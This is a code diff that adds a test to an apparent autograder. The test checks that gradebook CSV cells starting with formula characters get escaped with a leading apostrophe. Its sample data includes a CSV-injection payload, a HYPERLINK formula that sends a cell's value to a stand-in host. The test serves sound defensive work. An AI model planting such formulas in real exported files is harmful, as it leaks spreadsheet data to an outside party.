@@ -435,6 +435,24 @@ def test_gradebook_csv(graded: dict, errored: dict, tmp_path: Path) -> None:
     assert bob["error"].startswith("no Redis could be started")
 
 
+def test_gradebook_cells_a_submission_names_are_never_spreadsheet_formulas(graded: dict, errored: dict,
+                                                                          tmp_path: Path) -> None:
+    """A folder or archive called `=HYPERLINK(...)` (or an error that starts like one) would run as a formula in
+    the instructor's spreadsheet: such cells get a leading apostrophe; the others are left as they are."""
+    named = copy.deepcopy(graded)
+    named["submission"]["name"] = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    failing = copy.deepcopy(errored)
+    failing["submission"]["name"] = "@sum(1+1)"
+    failing["error"] = "-1+1 could not be graded"
+    path = tmp_path / "gradebook.csv"
+    write_gradebook([named, failing, graded], path)
+    with open(path, newline="", encoding="utf-8") as handle:
+        first, second, plain = list(csv.DictReader(handle))
+    assert first["name"] == "'" + named["submission"]["name"]
+    assert (second["name"], second["error"]) == ("'@sum(1+1)", "'-1+1 could not be graded")
+    assert (plain["name"], plain["score"], plain["error"]) == ("alice", "73.33", "")
+
+
 # --- write_reports -----------------------------------------------------------------------------------------
 
 
